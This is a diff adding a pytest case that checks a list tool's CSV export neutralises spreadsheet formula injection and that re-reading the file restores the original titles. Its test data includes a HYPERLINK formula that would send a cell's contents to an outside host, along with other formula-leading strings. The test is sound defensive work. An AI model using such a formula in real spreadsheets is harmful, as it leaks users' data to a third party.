@@ -9,7 +9,10 @@ from typing import Any
 
 import pytest
 
-from listsync.protocol import Exit
+from listsync.protocol import FORMULAS, Exit
+from listsync.providers.file.options import FileOptions
+from listsync.providers.file.reader import ListFile
+from listsync.providers.file.source import FileSource
 from tests.integration.ctl.conftest import Agent, Ctl
 from tests.integration.ctl.test_commands import BROUGHT
 
@@ -111,3 +114,24 @@ def test_wrong_usage_is_said(agent: Agent, ctl: Ctl, line: str) -> None:
     ran = ctl("items", *line.split())
     assert (ran.code, ran.err.count("\n")) == (Exit.USAGE, 1)
     assert agent.asked == []
+
+
+_FORMULAS = (
+    '=HYPERLINK("http://example.org/?t="&A2,"look")',
+    *("+1", "-2+3", "@SUM(A1)", "＝1", "'=quoted", "''+quoted", "'s avonds", "Alien"),  # noqa: RUF001
+)
+
+
+def test_no_title_is_a_formula_in_a_table_and_reading_it_gives_each_back(
+    agent: Agent, ctl: Ctl, folder: Path
+) -> None:
+    titles = [*_FORMULAS, "\t=tab", "\r=return"]
+    agent.script = {"items": {"total": len(titles), "items": [item(one) for one in titles]}}
+    target = folder / "all.csv"
+    assert ctl("items", "--export", str(target)).code == Exit.OK
+    with target.open(encoding="utf-8", newline="") as file:
+        cells = [row["title"] for row in csv.DictReader(file)]
+    assert [cell for cell in cells if cell.startswith(FORMULAS)] == []
+    assert cells[-3] == "Alien"
+    read = ListFile(FileSource(target), FileOptions()).fetch(None)
+    assert [one.title for one in read.entries] == [*_FORMULAS, "=tab", "=return"]
